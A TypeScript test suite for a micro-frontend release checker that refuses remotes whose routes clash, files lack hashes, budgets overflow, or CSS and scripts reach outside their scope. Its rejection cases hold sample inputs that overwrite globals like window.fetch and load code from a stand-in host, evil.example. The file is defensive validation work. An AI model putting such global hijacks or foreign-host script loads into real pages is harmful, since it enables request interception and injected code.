import { leastCost } from '../testing/cost';
import type { Release } from './registry';
import { descriptionProblems, overlapProblems, releaseProblems, type TargetSite, type ReleaseFile } from './releaseProblems';
import { codeProblems } from './releaseCode';
import { RELEASE_LIMITS, readReleaseLimits, type ReleaseLimits } from './releaseLimits';
import { styleProblems } from './releaseStyles';

const hash = 'sha384-x';
const release: Release = {
  name: 'mf-spa',
  version: '0.1.0-1a2b3c4d',
  container: 'mf_spa_1a2b3c4d',
  entry: 'remoteEntry.js',
  integrity: hash,
  hashes: { 'remoteEntry.js': hash, 'assets/1.css': hash },
  kit: '^0.2.0',
  uses: { react: { useState: '18' } },
  app: [],
  pages: { spa: ['assets/1.css'] },
  routes: [{ path: '/hotels/:hotelid/spa', title: 'Spa', page: 'spa', resource: 'special' }],
};
const site: TargetSite = {
  surface: { react: { useState: ['18'] } },
  others: [{ name: 'mf-platform', routes: [{ path: '/users', title: 'Users', page: 'users' }] }],
};
const allowing = (limits: Partial<ReleaseLimits>): TargetSite => ({ ...site, limits: { ...RELEASE_LIMITS, ...limits } });
const files: ReleaseFile[] = [
  { name: 'remoteEntry.js', bytes: 20_000, text: () => 'var mf_spa_1a2b3c4d = 1;' },
  { name: 'assets/1.css', bytes: 1000, text: async () => '.mf-spa-row-1a2b3c{color:red}' },
  { name: 'assets/1.svg', bytes: 1000 },
];
const problems = (change: Partial<Release>, ownFiles = files, target = site) =>
  releaseProblems({ ...release, ...change }, ownFiles, target);

describe('reasons to refuse a release', () => {
  it('there are none when it fits the site', async () => expect(await problems({})).toEqual([]));

  it.each<[string, Promise<string[]>, string]>([
    [
      'a kit that is not served',
      problems({ uses: { react: { useState: '19' } } }),
      "This version uses useState of react in a form that this site does not have. Build it with this site's kit.",
    ],
    [
      "another remote's address",
      problems({ routes: [{ path: '/users', title: 'Guests', page: 'spa' }] }),
      '/users of mf-spa is already taken by /users of mf-platform.',
    ],
    [
      "an address of the shell's own",
      problems({ routes: [{ path: '/settings', title: 'Spa', page: 'spa' }] }),
      '/settings of mf-spa is already taken by /settings of the shell.',
    ],
    [
      'a resource that does not exist',
      problems({ routes: [{ path: '/spa', title: 'Spa', page: 'spa', resource: 'massage' }] }),
      "/spa needs READ on 'massage', and there is no such resource.",
    ],
    [
      'a file that is missing',
      problems({}, files.slice(0, 1)),
      'The file assets/1.css is missing. Build and pack the remote again.',
    ],
    [
      'a script without a hash',
      problems({}, [...files, { name: 'assets/2.js', bytes: 1 }]),
      'The file assets/2.js has no hash. Build and pack the remote again.',
    ],
    [
      'too many bytes in all',
      problems({}, files, allowing({ budget: { total: 20_000, page: 50_000 } })),
      'Its scripts and style sheets are 21 KB together; the limit is 20 KB.',
    ],
    [
      'a page that is too heavy',
      problems({}, files, allowing({ budget: { total: 50_000, page: 20_000 } })),
      "Its page 'spa' takes 21 KB; the limit is 20 KB.",
    ],
  ])('%s', async (_, found, sentence) => expect(await found).toEqual([sentence]));

  it('includes problems of its scripts and style sheets', async () => {
    const [script, sheet] = files as [ReleaseFile, ReleaseFile];
    const bad = [
      { ...script, text: () => 'window.fetch = () => null' },
      { ...sheet, text: () => 'body{margin:0}' },
    ];
    expect(await problems({}, bad)).toHaveLength(2);
  });

  it('does not read code of which there is more than the site allows', async () => {
    const unread = () => {
      throw new Error('It was read.');
    };
    const large = files.map((file) => ({ ...file, bytes: 2_000_000, text: unread }));
    expect(await problems({}, large)).toContain('Its scripts and style sheets are 4,000 KB together; the limit is 3,000 KB.');
  });

  it('with twice as many files and pages takes about twice as long to find', () => {
    const check = (count: number) => () => {
      const names = Array.from({ length: count }, (_, index) => `${index}.js`);
      const pages = Object.fromEntries(names.map((name) => [name, [name]]));
      descriptionProblems({ ...release, app: names, pages, hashes: {} }, [], site);
    };
    expect(leastCost(check(3200)) / Math.max(2000, leastCost(check(800)))).toBeLessThan(10);
  });

  it('the kit is not checked while no site has been built', async () => {
    expect(await problems({ uses: {} }, files, { ...site, surface: null })).toEqual([]);
  });
});

it('ignores overlaps between two other remotes', () => {
  const [other] = site.others;
  expect(overlapProblems(release, [other!, { ...other!, name: 'mf-two' }])).toEqual([]);
});

describe('a style sheet', () => {
  const styles = (text: string) => styleProblems('assets/1.css', text, 'mf-spa', ['www.w3.org']);

  it.each([
    '.mf-spa-row-1a2b3c > td:hover, .shared-kit-row-1a2b3c{color:red}',
    '[data-theme=dark] .mf-spa-row-1a2b3c{color:red}',
    '@media (width > 1px){.mf-spa-row-1a2b3c{color:red; &:hover{color:blue} p{margin:0}}}',
    '@keyframes mf-spa-turn-1a2b3c{0%{top:0}to{top:1px}}',
    '.mf-spa-row-1a2b3c{background:url(data:image/svg+xml;charset=utf8,%3Csvg xmlns=http://www.w3.org/2000/svg%3E)}',
  ])('may have %s', (text) => expect(styles(text)).toEqual([]));

  it.each([
    ['body{margin:0}', "line 1 styles 'body' everywhere"],
    ['.mf-spa-row-1a2b3c{}\n.mf-spa-x-1a2b3c,h1{margin:0}', "line 2 styles 'h1' everywhere"],
    ['.row{margin:0}', "styles '.row' everywhere"],
    ['.mf-platform-row-1a2b3c{margin:0}', "styles '.mf-platform-row-1a2b3c' everywhere"],
    [':root{--accent:red}', "styles ':root' everywhere"],
    ['@media print{*{display:none}}', "styles '*' everywhere"],
    ['@keyframes turn{to{top:0}}', "names an animation 'turn'"],
    ['@font-face{font-family:x}', 'has @font-face'],
    ["@import 'x.css';", 'imports another style sheet'],
    ['.mf-spa-row-1a2b3c{background:url(//evil.example/x.png)}', 'names the host evil.example'],
    ['.mf-spa-row-1a2b3c{', 'is not a style sheet'],
  ])('may not have %s', (text, sentence) => expect(styles(text)).toEqual([expect.stringContaining(sentence)]));

  it('is refused, without an error, if it is nested without end', () => {
    const nested = `${'@media x{'.repeat(20_000)}${'}'.repeat(20_000)}`;
    expect(styles(nested)).toEqual(['assets/1.css is nested too deeply to be checked: at most 100 levels.']);
    expect(styles(`${'@media x{'.repeat(100)}${'}'.repeat(100)}`)).toEqual([]);
  });
});

describe('a script', () => {
  const code = (text: string) =>
    codeProblems('assets/1.js', text, { hosts: ['www.w3.org'], modals: ['Upload File', 'Book Spa'] });

  it.each([
    'var mf_spa_x; (self.webpackChunkmf_spa = self.webpackChunkmf_spa || []).push([1])',
    'document.title = "Spa"; location.href = "/spa"; window.innkeeper = 1; element.onclick = f',
    'class Range {} Range.prototype.end = 1; function Selection() {} Selection.from = f',
    '(function (Array) { Array.prototype.last = 1 })(x)',
    'Object.defineProperty(exports, "x", {}); Object.assign(Own.prototype, mixin); ({ prototype: { x: 1 } }).prototype.x = 2',
    'createElementNS("http://www.w3.org/2000/svg", "svg"); "see http://fb.me/x"; "https://"; "//not a host"',
    'Array.prototype.slice.call(x); const { fetch } = window; const own = window.fetch',
    'openModal({name:"Upload File"}); (0,r.openModal)({title:"Any",name:"Book Spa"}); openModal({name:"Delete Massage"})',
    'openModal({name:t,title:t}); openModal(modal); open({name:"Nobody knows this"}); openModal({title:"Nobody knows this"})',
  ])('may have %s', (text) => expect(code(text)).toEqual([]));

  it.each([
    ['(0,r.openModal)({title:"Spa",name:"Sauna"})', "line 1 opens the dialog 'Sauna', which this site does not know."],
    ['\nopenModal({name:"Sauna"})', "line 2 opens the dialog 'Sauna'"],
    ['Array.prototype.last = f', 'changes Array.prototype.last'],
    ['window.Array.prototype["last"] = f', 'changes Array.prototype.last'],
    ['Array.prototype[name] = f', 'changes Array.prototype.…'],
    ['\n\n  window.fetch = g', 'line 3 changes window.fetch'],
    ['fetch = g', 'changes fetch'],
    ['globalThis.setTimeout = g', 'changes globalThis.setTimeout'],
    ['history.pushState = g', 'changes history.pushState'],
    ['window.history.pushState = g', 'changes history.pushState'],
    ['console.error = g', 'changes console.error'],
    ['document.createElement = g', 'changes document.createElement'],
    ['Promise.all = g', 'changes Promise.all'],
    ['delete Element.prototype.remove', 'changes Element.prototype.remove'],
    ['Object.defineProperty(Array.prototype, "last", {})', 'changes Array.prototype.last'],
    ['Object.defineProperty(window, "fetch", {})', 'changes window.fetch'],
    ['Object.assign(String.prototype, { x: 1 })', 'changes String.prototype'],
    ['Reflect.set(Math, "random", g)', 'changes Math.random'],
    ['load("https://evil.example/x.js")', 'names the host evil.example'],
    ['load(`wss://evil.example:80/${x}`)', 'names the host evil.example'],
    ['function (', 'is not a script'],
  ])('may not have %s', (text, sentence) => expect(code(text)).toEqual([expect.stringContaining(sentence)]));

  it.each([
    ['members', (length: number) => `a${'.a'.repeat(length)}=1`],
    ['terms', (length: number) => `a${'+a'.repeat(length)}`],
    ['calls', (length: number) => `a${'()'.repeat(length)}`],
  ])('with twice as long a chain of %s takes about twice as long to check', (_case, chainOf) => {
    const check = (length: number) => () => void code(chainOf(length));
    expect(leastCost(check(3000)) / Math.max(2000, leastCost(check(750)))).toBeLessThan(10);
    expect(code('a' + '.a'.repeat(100_000) + '=1')).toEqual([]);
  });

  it('a name in the default of a parameter is not one that the script declares', () => {
    expect(code('const { own = Array } = x; Array.prototype.last = own')).toEqual([
      expect.stringContaining('changes Array.prototype.last'),
    ]);
    expect(code('const { a: [Array, ...Set], ...Map } = x; Array.prototype.a = Set.prototype.b = Map.prototype.c = 1')).toEqual(
      [],
    );
  });

  it('a change of a shared object is reported with the code that makes it', () => {
    expect(code('if (1) Array.prototype.last = function () { return 1 }')).toEqual([
      'assets/1.js, line 1 changes Array.prototype.last, which belongs to every area of the site: Array.prototype.last = function () { return 1 }',
    ]);
  });
});

describe('the release limits of a site', () => {
  const read = (settings: Record<string, string>) => readReleaseLimits((name) => settings[name] ?? null);

  it('are the defaults when nothing is configured', () => expect(read({})).toEqual(RELEASE_LIMITS));

  it('can be configured with more hosts and dialogs, and other sizes', () => {
    const settings = {
      RELEASE_HOSTS: 'Maps.house.example, cdn.house.example',
      RELEASE_MODALS: 'Book Spa',
      RELEASE_PAGE_KB: '500',
    };
    const { hosts, modals, budget } = read(settings);
    expect(hosts).toEqual([...RELEASE_LIMITS.hosts, 'maps.house.example', 'cdn.house.example']);
    expect(modals).toContain('Book Spa');
    expect(modals).toContain('Upload File');
    expect(budget).toEqual({ total: 3_000_000, page: 500_000 });
    expect(read({ RELEASE_KB: '300' }).budget).toEqual({ total: 300_000, page: 300_000 });
  });

  it.each([
    [{ RELEASE_HOSTS: 'https://maps.house.example' }, 'RELEASE_HOSTS must list names of hosts'],
    [{ RELEASE_KB: '0' }, 'RELEASE_KB must be a whole number'],
    [{ RELEASE_KB: '1.5' }, 'RELEASE_KB must be a whole number'],
    [{ RELEASE_PAGE_KB: 'much' }, 'RELEASE_PAGE_KB must be a whole number'],
    [{ RELEASE_KB: '300', RELEASE_PAGE_KB: '301' }, 'RELEASE_PAGE_KB must not be more than RELEASE_KB'],
  ])('refuse %j', (settings, sentence) => expect(() => read(settings)).toThrow(sentence));
});
